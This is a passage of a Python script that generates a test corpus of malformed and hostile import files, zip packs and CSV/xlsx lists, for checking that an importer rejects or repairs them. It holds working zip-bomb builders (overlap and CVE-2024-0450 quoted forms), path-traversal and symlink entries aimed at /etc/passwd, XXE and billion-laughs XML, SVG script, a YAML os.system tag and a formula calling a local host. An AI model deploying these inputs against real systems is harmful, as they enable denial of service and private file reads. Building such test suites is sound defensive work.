    P("size_lie_small", patched(z({**files(), "pictures/z.png": b"\0" * 3_000_000}), CEN, 24, "<I", 1000, last=True), "directory claims 1 kB, real 3 MB", "reject", "limit checked on claim only", "damaged")
    # -- paths
    def path_item(tag, name, expect="reject", why="path traversal", says="name"): P("path_" + tag, z({**files(), name: b"EVIL"}), f"entry named {name!r}"[:90], expect, why, says)
    for tag, name in (("dotdot", "../../evil_dotdot.txt"), ("dotdot_deep", "pictures/../../../../../../tmp/evil_deep.txt"), ("abs", "/tmp/evil_abs.txt"), ("drive", "C:\\Windows\\Temp\\evil.txt"),
                      ("drive_rel", "C:evil.txt"), ("backslash", "..\\..\\evil_bs.txt"), ("unc", "\\\\127.0.0.1\\share\\evil.txt"), ("device", "\\\\.\\pipe\\x"), ("dot", "./"), ("home", "~/evil.txt"),
                      ("nul", "pictures/b.png\0.exe"), ("newline", "pictures/b\n.png"), ("control", "pictures/b\x1b[31m.png"), ("trailing_dot", "pictures/b.png."), ("trailing_space", "pictures/b.png ")):
        path_item(tag, name)
    path_item("ads", "pictures/b.png:evil.exe", why="NTFS alternate stream"); path_item("empty_part", "pictures//b.png", "either", "odd but harmless")
    for r in ("CON", "NUL.png", "aux.jpg", "COM1.png", "LPT9", "pictures/PRN.png", "CONIN$"): path_item("reserved_" + r.replace("/", "_").replace("$", "d"), r, "reject", "reserved on Windows, packs travel")
    path_item("long_300", "pictures/" + "n" * 300 + ".png", "reject", "over NAME_MAX", "long"); path_item("deep_400", "d/" * 400 + "x.png", "reject", "over MAX_PATH", "long")
    path_item("bidi", "pictures/\u202egnp.exe", "reject", "looks like exe.png"); path_item("nfd", "pictures/e\u0301.png", "either", "macOS names")
    for tag, more, what, why in (("path_nfc_nfd", [("pictures/\u00e9.png", GOODPNG), ("pictures/e\u0301.png", png(4, 4))], "two names equal after normalisation", "one overwrites the other on macOS"),
                                 ("path_case_dup", [(PIC.upper(), png(4, 4))], "case-1.png and CASE-1.PNG", "one overwrites the other on Windows/macOS"),
                                 ("dup_manifest", [(M, enc(manifest(1)))], "pack.json twice", "which one was reviewed?"), ("dup_picture", [(PIC, png(4, 4))], "picture twice", "")):
        P(tag, z([*files().items(), *more]), what, "reject", why, "twice")
    def special(name, mode, data=b"/etc/passwd"):
        zi = zipfile.ZipInfo(name, (2026, 12, 10, 12, 0, 0)); zi.create_system = 3; zi.external_attr = (mode << 16); return zi, data
    P("link_file", z({M: enc(manifest())}, infos=[special(PIC, stat.S_IFLNK | 0o777)]), "picture is a symlink to /etc/passwd", "reject", "would read a private file", "link")
    P("link_dir", z(files(), infos=[special("sub", stat.S_IFLNK | 0o777, b"/var"), special("sub/evil_via_link.txt", stat.S_IFREG | 0o644, b"EVIL")]), "symlinked folder, then a file through it", "reject", "", "link")
    P("link_fifo", z(files(), infos=[special("pipe", stat.S_IFIFO | 0o644, b"")]), "named pipe entry", "reject")
    P("link_setuid", z(files(), infos=[special("pictures/b.png", stat.S_IFREG | 0o6777, GOODPNG)]), "setuid bits", "either", "never apply modes from a zip")
    P("extra_programs", z({**files(), "setup.exe": b"MZ", "run.bat": b"calc", "x.lnk": b"L\0", "autorun.inf": b"[autorun]", "a.desktop": b"[Desktop Entry]", "conf.py": b"import os", "sitecustomize.py": b"print(1)", "x.html": b"<script>"}), "programs along with the pack", "repair", "import the pack, never write or run these, say they were left out")
    # -- size
    P("bomb_ratio", lambda: z({**files(), "pictures/b.png": b"\0" * (600_000_000 if c.a.big else 120_000_000)}), "one member of 120 MB (600 with --big) zeros", "reject", "zip bomb; stop at the limit while inflating", "large")
    P("bomb_manifest", lambda: z(files(enc(manifest())[:-1] + b" " * 150_000_000 + b"}")), "pack.json padded to 150 MB", "reject", "", "large")
    P("bomb_many", lambda: z({**files(), **{f"pictures/{i}.png": b"\0" * 9_000_000 for i in range(8)}}), "8 members of 9 MB each", "reject", "64 MB for the whole, not only per member", "large")
    P("entries_600", z({**files(), **{f"pictures/{i}.png": b"" for i in range(598)}}), "600 entries", "reject", "500 is the limit", "many")
    P("entries_50k", lambda: z({**files(), **{f"pictures/{i}.png": b"" for i in range(50_000)}}), "50,000 entries", "reject", "central directory flood", "many")
    if c.a.big: P("file_65mb", z({**files(), **{f"pictures/{i}.png": random.Random(i).randbytes(6_500_000) for i in range(10)}}, zipfile.ZIP_STORED), "file of 65 MB", "reject", "64 MB is the limit", "large")
    few = [{"code": f"c-{i}", "name": "Ann", "headline": "x", "country": "CO"} for i in range(100_000 if c.a.big else 20_000)]
    P("cases_151", z(files(manifest(151))), "151 cases", "reject", "150 is the limit", "many"); P("cases_20k", z(files(manifest(cases=few))), "20,000 cases", "reject", "", "many")
    overlap_bombs(P)
    inner = z({"a": b"\0" * 10_000_000})
    for _ in range(3): inner = z({f"{i}.zip": inner for i in range(10)})
    P("bomb_nested", z({**files(), "pictures/b.png": inner}), "zip in zip in zip", "either", "never unpack members recursively")
    # -- pack.json: encoding and shape
    t = enc(manifest())
    def MAN(tag, raw, what, expect="reject", why="", says=M): P("man_" + tag, z(files(raw)), what, expect, why, says)
    MAN("utf16", json.dumps(manifest()).encode("utf-16"), "UTF-16", "reject", "Windows 'Unicode'; pack.json is UTF-8", "encoding|UTF-8"); MAN("latin1", t.decode().encode("latin-1"), "Latin-1", "reject", "must not import mojibake", "encoding|UTF-8")
    MAN("cp1252", t.decode().replace("Short brief", "‘Case’ – 5€", 1).encode("cp1252"), "cp1252 smart quotes", "reject", "", "encoding|UTF-8"); MAN("bad_utf8", t.replace(b"Case number", b"Case \xff\xfe\xc0\x80number"), "invalid UTF-8", "reject", "", "encoding|UTF-8")
    MAN("overlong", t.replace(b"/", b"\xc0\xaf", 1), "overlong UTF-8 slash", "reject", "", "encoding|UTF-8"); MAN("nul_bytes", t[:40] + b"\0" * 8 + t[40:], "NUL bytes inside")
    for tag, raw, what in (("empty", b"", "empty pack.json"), ("cut", t[: len(t) // 2], "pack.json cut in half"), ("array", b"[]", "top level is a list"), ("null", b"null", "top level is null"), ("string", b'"x"', "top level is a string"), ("two", t + t, "two objects one after the other")): MAN(tag, raw, what)
    MAN("deep", b"[" * 200_000 + b"]" * 200_000, "200,000 nested brackets", "reject", "RecursionError or C stack"); MAN("deep_field", t[:-1] + b',"x":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}", "deep nesting in an unknown field", "reject", "RecursionError or C stack")
    MAN("bigint", t[:-1] + b',"x":' + b"9" * 6000 + b"}", "6000-digit number in an unknown field", "either", "int conversion limit raises ValueError"); MAN("float_inf", t[:-1] + b',"x":1e999,"y":NaN}', "infinite / NaN in an unknown field", "either")
    MAN("dup_keys", t[:-1] + b',"cases":[]}', "cases given twice, second empty", "reject", "json keeps the last: 0 cases, silently", "twice"); MAN("trailing_comma", t[:-1] + b",}", "trailing comma", "reject", "hand edited", "line"); MAN("comment", b"// made by hand\n" + t, "JSON with a comment", "reject", "", "line")
    MAN("yaml_object", b"!!python/object/apply:os.system ['true']\n", "YAML with an object tag"); MAN("xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">]><l>&a;</l>', "XML")
    # -- one field changed
    for path, says, accept, reject, either in field_table():
        short = path.replace("cases.1", "case").replace(".0", "")
        if "_" in says: says += "|" + says.replace("_", " ")
        for expect, values in (("accept", accept), ("reject", reject), ("either", either)):
            for lab, v in values.items():
                P(f"field_{short}_{lab}", z(files(changed(path, v))), f"{short} {lab.replace('_', ' ')}" + ("" if v is DROP else f": {v!r}"[:50]), expect, "", says, "field")
    # -- markup and names of all kinds, wherever the limits and the single line allow
    for k, v in MARKUP.items():
        one_line = not set(v) & set("\r\n\t")
        cs = case(1, story=v, sample_letter=v[:10_000] if len(v) < 10_000 else "", demands=[v] if len(v) <= 1000 else [], quote=v if len(v) <= 1000 else "")
        cs["updates"][0]["text"] = cs["guidance"]["warning"] = cs["quote"]
        if one_line and len(v) <= 200: cs.update(name=v if v.strip() else "x", headline=v); cs["targets"][0].update(addressee=v, office=v)
        if one_line and len(v) <= 60: cs["targets"][0]["lines"] = [v, v]
        P("text_" + k, z(files(manifest(cases=[cs]))), f"{k} in every text field that may hold it", "accept", "shown and printed literally, letter for letter (or stripped by stated rules); no file read, no network, no crash of the print run", "", "markup")
    for lab, nm, ex in NAMES:
        if lab.startswith("m_") or len(nm) > 10000: continue
        P("uni_" + lab, z(files(changed("cases.1.name", nm))), f"name is {lab}", "either" if ex == "repair" or lab == "long_200" else ex, "", "name|encoding|UTF-8" if ex == "reject" else "", "markup")
    P("uni_surrogate_escaped", z(files(json.dumps(changed("cases.1.name", "Ann\ud800")).encode())), "escaped lone surrogate in a name", "reject", "cannot be stored or printed", "name", "markup")
    # -- picture references and pictures
    def REF(lab, v, expect="reject", why="only names of members of this pack"): P("ref_" + lab, z(files(changed("cases.0.picture", v))), f"picture reference {v!r}"[:90], expect, why, "picture", "picture")
    for lab, v in (("dotdot", "../../../../etc/hostname"), ("dotdot_inside", "pictures/../pack.json"), ("abs", "/etc/hostname"), ("drive", "C:\\Windows\\win.ini"), ("http", "http://127.0.0.1:9/x.png"), ("file", "file:///etc/hostname"), ("data", "data:image/png;base64,AAAA"), ("unc", "\\\\127.0.0.1\\s\\x.png"),
                   ("manifest", M), ("list", [PIC]), ("int", 5), ("dict", {"path": PIC}), ("qrc", ":/icons/x.png"), ("glob", "pictures/*"), ("long", "pictures/" + "x" * 5000 + ".png")): REF(lab, v)
    REF("missing", "pictures/none.png", "either", "refuse, or import without it and say so"); REF("dir", "pictures/", "either"); REF("null", None, "either"); REF("empty", "", "accept", "no picture")
    P("ref_elsewhere", z({M: enc(changed("cases.0.picture", "images/a.png")), PIC: GOODPNG, "images/a.png": GOODPNG}), "picture outside pictures/", "either", "pictures lie under pictures/", "picture", "picture")
    def IMG(tag, data, what, expect, why="", name=PIC): P("img_" + tag, lambda: z({M: enc(manifest(cases=[case(1, picture=name)])), name: data() if callable(data) else data}), what, expect, why, "picture", "picture")
    IMG("zero", b"", "0-byte picture", "either"); IMG("cut", GOODPNG[: len(GOODPNG) // 2], "cut PNG", "either"); IMG("crc", png(16, 16, crc_bad=True), "PNG with wrong CRC", "either"); IMG("header_only", GOODPNG[:33], "only a header", "either")
    IMG("huge_1bit", lambda: png(30000, 30000, 0, 1), "30000x30000 1-bit PNG, 110 kB (900 megapixels)", "reject", "decompression bomb"); IMG("64mp", lambda: png(8000, 8000, 0, 1), "8000x8000 1-bit PNG, 8 kB (64 megapixels)", "reject", "over 50 megapixels"); IMG("49mp", lambda: png(7000, 7000, 0, 8), "7000x7000 grey PNG (49 megapixels)", "accept", "under 50 megapixels; scale down on import")
    IMG("claim_max", png(1, 1, claim=(2**31 - 1, 2**31 - 1)), "header claims 2^31-1 square", "reject"); IMG("claim_zero", png(1, 1, claim=(0, 0)), "header claims 0x0", "reject"); IMG("panorama", png(60000, 2, 0, 1), "60000x2", "either"); IMG("one_pixel", png(1, 1), "1x1", "accept")
    pad = lambda n: png(8, 8, extra=chunk(b"prVt", b"\0" * n))
    IMG("9mb", lambda: pad(9_000_000), "picture file of 9 MB", "accept", "under 10 MB"); IMG("11mb", lambda: pad(11_000_000), "picture file of 11 MB", "reject", "over 10 MB")
    IMG("ztxt_bomb", lambda: png(8, 8, extra=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 60_000_000, 9))), "PNG text chunk of 60 MB", "either", "Pillow limits this"); IMG("icc_bad", png(8, 8, extra=chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\xff" * 500))), "broken colour profile", "accept"); IMG("depth16", png(16, 16, 2, 16), "16-bit PNG", "accept"); IMG("rgba", png(16, 16, 6), "with transparency", "accept")
    for k, (body, dt) in {"script": ("<script>alert(1)</script>", ""), "local": ('<image xlink:href="/etc/hostname" width="9" height="9"/>', ""), "http": ('<image xlink:href="http://127.0.0.1:9/x.png" width="9" height="9"/>', ""), "xxe": ("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "use_bomb": (USE_BOMB, ""), "foreign": ("<foreignObject><iframe src='file:///etc/passwd'/></foreignObject>", "")}.items():
        IMG("svg_" + k, (SVG % (dt, body)).encode(), f"SVG ({k})", "reject", "SVG not allowed; use_bomb hangs Qt 6.12 for ever", "pictures/a.svg"); IMG("svg_" + k + "_as_png", (SVG % (dt, body)).encode(), f"SVG ({k}) named .png", "reject", "Qt detects by content: a .png can be an SVG")
    for tag, data, what, why in (("eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n", "EPS", "Pillow hands EPS to Ghostscript"), ("pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n", "PDF", "Qt has a PDF image plugin"), ("html", b"<html><img src=x onerror=alert(1)>", "HTML", ""),
                                 ("xpm", b'/* XPM */ static char *a[]={"60000 60000 1 1","a c #000"};', "XPM of 60000 square", ""), ("ico", b"\0\0\1\0\xff\xff" + b"\0" * 64, "ICO with 65535 images", ""), ("tiff", b"II*\0\x08\0\0\0\xff\xff" + b"\xff" * 200, "TIFF with 65535 tags", ""), ("bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 100, 0, 54, 40, 2**30, -2**30, 1, 32, 0, 0, 0, 0, 0, 0), "BMP with negative giant height", "")):
        IMG(tag + "_as_png", data, what + " named .png", "reject", why)
    gif = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff" + b"!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0" * 50_000 + b";"
    IMG("gif_50k_frames", gif, "GIF with 50,000 frames", "either", "first frame only", "pictures/a.gif")
    try: from PIL import Image
    except ImportError: return
    def saved(im, kind, **k): b = io.BytesIO(); im.save(b, kind, **k); return b.getvalue()
    im = Image.new("RGB", (64, 48), "teal"); ex = Image.Exif(); ex[0x0112] = 6; ex[0x010E] = "Taken at home of Ann Example"; gps = ex.get_ifd(0x8825); gps[1] = "N"; gps[2] = (45.0, 25.0, 0.0); jpg = saved(im.convert("CMYK"), "JPEG")
    IMG("exif_gps", saved(im, "JPEG", exif=ex), "JPEG with GPS place and a private caption, rotated", "repair", "turn upright, drop metadata", "pictures/a.jpg"); IMG("cmyk", jpg, "CMYK JPEG (from a print shop)", "accept", "", "pictures/a.jpg")
    IMG("jpg_cut", jpg[: len(jpg) // 2], "JPEG cut in half", "either", "", "pictures/a.jpg"); IMG("webp", saved(im, "WEBP"), "WebP", "accept", "web pictures", "pictures/a.webp"); IMG("gif", saved(im, "GIF"), "GIF", "accept", "", "pictures/a.gif")

def overlap_bombs(P):
    """Members that share their bytes: Fifield's simplest form, and the quoted form of CVE-2024-0450."""
    g = z(files()); eo = g.rfind(b"PK\x05\x06"); cd = struct.unpack_from("<I", g, eo + 16)[0]; n0 = struct.unpack_from("<H", g, eo + 10)[0]; head, cdb = g[:cd], g[cd:eo]
    def local(name, crc, comp, size): return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, comp, size, len(name), 0) + name
    def central(name, crc, comp, size, offset): return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, comp, size, len(name), 0, 0, 0, 0, 0, offset) + name
    def whole(body, cds, n): return head + body + cdb + cds + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n0 + n, n0 + n, len(cdb) + len(cds), len(head) + len(body), 0)
    def deflate(data): co = zlib.compressobj(9, zlib.DEFLATED, -15); return co.compress(data) + co.flush()
    zeros = b"\0" * 9_000_000; blob = deflate(zeros); crc = zlib.crc32(zeros)
    cds = b"".join(central(b"pictures/o%d.png" % i, crc, len(blob), len(zeros), len(head)) for i in range(400))
    P("bomb_overlap", whole(local(b"pictures/o.png", crc, len(blob), len(zeros)) + blob, cds, 400), "400 names on one 9 MB body (3.6 GB from 30 kB)", "reject", "overlapped members")
    data, plain, stack = blob, zeros, []
    for i in reversed(range(6)):                                     # each member's data quotes the next local header
        nm = b"pictures/q%03d.png" % i; lfh = local(nm, zlib.crc32(plain), len(data), len(plain))
        stack.append((nm, lfh, zlib.crc32(plain), len(data), len(plain), data))
        data = b"\x00" + struct.pack("<HH", len(lfh), len(lfh) ^ 0xFFFF) + lfh + data; plain = lfh + plain
    body, cds = b"", b""
    for nm, lfh, crc, cl, ul, tail in stack[::-1]:
        cds += central(nm, crc, cl, ul, len(head) + len(body)); body += lfh
        if nm != stack[0][0]: nxt = len(stack[0][1]); body += b"\x00" + struct.pack("<HH", nxt, nxt ^ 0xFFFF)
    P("bomb_quoted", whole(body + stack[0][5], cds, 6), "6 members sharing one 9 MB body by quoting", "reject", "CVE-2024-0450: zipfile of Python 3.11.7 unpacks it; check overlaps yourself")

# ------------------------------------------------------------------ lists
def build_lists(c: Corpus):
    H = ["First name", "Last name", "Email", "Postcode"]
    def rows(n): return [[f"Ann{i}", "Example", f"a{i}@example.org", "A1A 1A1"] for i in range(n)]
    def C(tag, data, what, expect, why="", says=""): c.add(f"lists/{tag}.csv", data, "list", what, expect, why, says)
    def w(rs, delim=",", enc="utf-8", eol="\r\n", head=H):
        s = io.StringIO(newline=""); x = csv.writer(s, delimiter=delim, lineterminator=eol); (x.writerow(head) if head else None); x.writerows(rs); return s.getvalue().encode(enc, "surrogatepass")
    C("ok", w(rows(20)), "valid", "accept"); C("ok_bom", b"\xef\xbb\xbf" + w(rows(20)), "UTF-8 BOM (Excel 'CSV UTF-8')", "accept", "header must not become '\\ufeffFirst name'"); C("ok_semicolon", w(rows(20), ";"), "semicolons (French/Spanish Excel)", "accept"); C("ok_tab", w(rows(20), "\t"), "tabs", "accept"); C("ok_lf", w(rows(20), eol="\n"), "LF", "accept"); C("ok_cr", w(rows(20), eol="\r"), "CR only (old Mac)", "accept"); C("ok_utf16", w(rows(20), "\t", "utf-16"), "UTF-16 tabs (Excel 'Unicode text')", "accept"); C("ok_quoted_newline", w([["Ann\nMarie", "Example", "a@example.org", "1"]]), "newline inside quotes", "repair"); C("ok_sep", b"sep=;\r\n" + w(rows(3), ";"), "Excel sep= line", "accept"); C("ok_blank_lines", w(rows(3)) + b"\r\n,,,\r\n\r\n" + w(rows(2), head=None), "blank lines", "accept"); C("ok_extra_col", w([r + ["x"] for r in rows(5)], head=H + ["Note"]), "an extra column", "accept")
    C("latin1", w([["Zoë", "Müller", "z@example.org", "1"]], enc="latin-1"), "Latin-1", "either", "ask or detect; never mojibake silently", "encoding"); C("mixed", w(rows(2)) + "Zoë,M,z@example.org,1\r\n".encode("latin-1"), "mixed encodings", "reject", "", "line"); C("fr", w([["Zoë", "Noël", "z@example.org", "1"]], ";", head=["Prénom", "Nom", "Courriel", "Code postal"]), "French headers", "accept", "mapping step"); C("ar", w([["فاطمة", "علي", "z@example.org", "1"]], head=["الاسم", "اللقب", "البريد", "الرمز"]), "Arabic headers", "accept"); C("no_header", w(rows(3), head=None), "no header row", "either", "first attendee must not be lost as a header", "header")
    C("empty", b"", "0 bytes", "reject", "", "empty"); C("header_only", w([]), "only a header", "reject", "", "no "); C("dup_header", w(rows(3), head=["Name", "Name", "Email", "Email"]), "duplicate headers", "reject", "", "twice"); C("ragged", w(rows(3)) + b"Ann\r\nAnn,B,C,D,E,F,G\r\n", "short and long rows", "repair", "name the line numbers", "line"); C("open_quote", w(rows(3)) + b'"Ann,Example,a@b.c,1\r\n' + w(rows(500), head=None), "a quote never closed (swallows 500 people)", "reject", "the most dangerous CSV error: it 'works'", "line"); C("nul", w(rows(3)).replace(b"Ann1", b"An\0n"), "NUL byte", "reject", "", "line"); C("bin", bytes(range(256)) * 40, "binary", "reject"); C("xlsx_as_csv", b"PK\x03\x04" + b"\0" * 500, "xlsx renamed", "reject", "", "Excel"); C("html_xls", b"<table><tr><td>Name</td></tr></table>", "HTML table", "reject")
    C("field_1MB", w([["A" * 1_000_000, "B", "c@d.e", "1"]]), "1 MB field", "reject", "csv.field_size_limit is 131072", "long"); C("cols_20k", ",".join(f"c{i}" for i in range(20_000)).encode() + b"\r\n", "20,000 columns", "reject", "", "column"); C("rows_200k" if c.a.big else "rows_30k", w(rows(200_000 if c.a.big else 30_000)), "very many rows", "either", "warn above a few thousand: wrong file?", "rows"); C("dups", w(rows(3) + rows(3)), "everyone twice", "repair", "offer to join", "twice"); C("same_email", w([["Ann", "X", "f@example.org", "1"], ["Bob", "X", "F@Example.org ", "1"]]), "family sharing one address", "accept", "two people"); C("markup", w([[v, v, "a@b.c", v] for v in MARKUP.values() if len(v) < 2000]), "markup and formulas in every cell", "accept", "literal text", ""); C("names", w([[n, "x", "", ""] for _, n, e in NAMES if len(n) < 3000 and not any(0xD800 <= ord(ch) < 0xE000 for ch in n) and "\0" not in n]), "unicode torture names", "repair")
    # xlsx by hand, so that no library cleans it
    CT = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    R = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    WB = '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
    WR = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    def x(sheet):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as zf:
            for n, d in (("[Content_Types].xml", CT), ("_rels/.rels", R), ("xl/workbook.xml", WB), ("xl/_rels/workbook.xml.rels", WR), ("xl/worksheets/sheet1.xml", sheet)):
                zi = zipfile.ZipInfo(n, (2026, 12, 10, 12, 0, 0)); zi.compress_type = zipfile.ZIP_DEFLATED; zf.writestr(zi, d)
        return b.getvalue()
    def X(tag, data, what, expect, why="", says=""): c.add(f"lists/{tag}.xlsx", data, "list", what, expect, why, says)
    cell = lambda r, v: f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{v}</t></is></c></row>'
    X("ok", x(f'<?xml version="1.0"?><worksheet {NS}><sheetData>{cell(1,"Name")}{cell(2,"Ann")}</sheetData></worksheet>'), "valid xlsx", "accept")
    X("laughs", x('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98+i)} "{("&"+chr(97+i)+";")*10}">' for i in range(8)) + f']><worksheet {NS}><sheetData>{cell(1,"&i;")}</sheetData></worksheet>'), "XML entity bomb in the sheet", "reject", "openpyxl advises defusedxml"); X("xxe", x(f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet {NS}><sheetData>{cell(1,"&x;")}</sheetData></worksheet>'), "XML external entity", "reject"); X("dimension", x(f'<?xml version="1.0"?><worksheet {NS}><dimension ref="A1:XFD1048576"/><sheetData>{cell(1,"Name")}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'), "claims 17 billion cells", "either", "iterate rows, never allocate by dimension"); X("bomb", lambda: x(f'<?xml version="1.0"?><worksheet {NS}><sheetData>' + cell(1, " " * 150_000_000) + "</sheetData></worksheet>"), "150 MB sheet in 150 kB", "reject", "", "large"); X("formula_name", x(f'<?xml version="1.0"?><worksheet {NS}><sheetData>{cell(1,"Name")}<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/")</f><v>Ann</v></c></row></sheetData></worksheet>'), "name is a formula", "either", "take the cached value or refuse")

def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out"); ap.add_argument("--only"); ap.add_argument("--group"); ap.add_argument("--big", action="store_true")
    a = ap.parse_args(argv); c = Corpus(a.out, a); build_packs(c); build_lists(c); c.finish()
    print(len(c.items), "items,", sum(i["bytes"] for i in c.items) // 1024, "kB", dict(collections.Counter(i["group"] for i in c.items)), dict(collections.Counter(i["expect"] for i in c.items)))
if __name__ == "__main__": main()
